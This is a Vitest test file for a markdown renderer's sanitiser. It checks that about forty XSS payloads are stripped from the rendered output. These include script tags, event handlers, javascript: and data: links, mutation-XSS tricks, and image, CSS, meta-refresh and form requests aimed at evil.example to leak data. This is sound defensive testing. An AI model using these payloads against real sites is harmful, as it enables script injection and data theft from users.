// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './render';

function dom(markdown: string): HTMLElement {
  const element = document.createElement('div');
  element.innerHTML = renderMarkdown(markdown);
  return element;
}

// Each must come out without a script, a handler, a frame, a form, an outside image or a link that runs code.
const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '<https://a"onmouseover=alert(1)>',
  '![x](https://evil.example/leak?q=1)',
  '![x](x" onerror="alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)',
  '<img src="https://evil.example/leak">',
  '<img srcset="https://evil.example/leak 2x">',
  '<div style="background:url(https://evil.example/leak)">x</div>',
  '<style>body{background:url(https://evil.example/)}</style>',
  '<link rel=stylesheet href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action=https://evil.example><input name=key><button>Send</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="https://x" onclick=alert(1) onfocus=alert(1) autofocus>x</a>',
  '<object data=x></object><embed src=x>',
  '<video><source onerror=alert(1)></video>',
  '<template><img src=x onerror=alert(1)></template>',
  '<p id=app name=body class="dialog overlay">x</p>',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '[x]: javascript:alert(1)\n\n[x]',
  '<x onclick=alert(1)>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src="data:image/png;base64,AA==" onload=alert(1)>',
  '<a href="/v1/models">own server</a>',
  '<a href="//evil.example">x</a>',
];

describe('renderMarkdown', () => {
  it.each(attacks)('makes harmless: %s', (attack) => {
    const element = dom(attack);
    const forbidden =
      'script,style,link,meta,base,iframe,object,embed,form,input,button,svg,math,template,video,source';
    expect(element.querySelectorAll(forbidden)).toHaveLength(0);
    for (const node of element.querySelectorAll('*')) {
      for (const { name, value } of node.attributes) {
        expect([
          'href',
          'title',
          'src',
          'alt',
          'class',
          'align',
          'start',
          'colspan',
          'rowspan',
          'target',
          'rel',
        ]).toContain(name);
        if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/);
        if (name === 'src') expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
        if (name === 'class') expect(value).toMatch(/^(language-[\w+#.-]+|code|table)$/);
      }
    }
  });

  it('renders what Markdown is for', () => {
    const element = dom('# A\n\n*b* **c** `d` ~~e~~\n\n- [x] f\n\n| g |\n|---|\n| h |\n\nH<sub>2</sub>O');
    expect(element.querySelector('h1')?.textContent).toBe('A');
    expect(element.querySelector('em')?.textContent).toBe('b');
    expect(element.querySelector('li')?.textContent).toContain('☑ f');
    expect(element.querySelector('.table table td')?.textContent).toBe('h');
    expect(element.querySelector('sub')?.textContent).toBe('2');
    expect(dom('| a |\n|--:|\n| 1 |').querySelector('td')?.getAttribute('align')).toBe('right');
    expect(dom('7. g').querySelector('ol')?.getAttribute('start')).toBe('7');
  });

  it('opens links elsewhere, without telling where from', () => {
    const link = dom('[x](https://example.org/?a=1&b=2)').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.org/?a=1&b=2');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toContain('noreferrer');
  });

  it('makes a link of an image from elsewhere', () => {
    const element = dom('![a cat](https://example.org/cat.png)');
    expect(element.querySelector('img')).toBeNull();
    expect(element.querySelector('a')?.textContent).toBe('a cat');
  });

  it('shows unknown tags as they were written', () => {
    expect(dom('Use <T> and std::vector<int>.').textContent?.trim()).toBe('Use <T> and std::vector<int>.');
    expect(dom('a <!-- note --> b').textContent).toContain('<!-- note -->');
  });

  it('keeps code as it is', () => {
    const code = dom('- x\n\n  ```js\n  a < b && "c"\n  ```').querySelector('.code code');
    expect(code?.textContent).toBe('a < b && "c"');
    expect(code?.className).toBe('language-js');
  });

  it('uses definitions of other blocks', () => {
    expect(dom('').textContent).toBe('');
    const element = document.createElement('div');
    element.innerHTML = renderMarkdown('See [ref].', '[ref]: https://example.org');
    expect(element.querySelector('a')?.getAttribute('href')).toBe('https://example.org');
  });
});
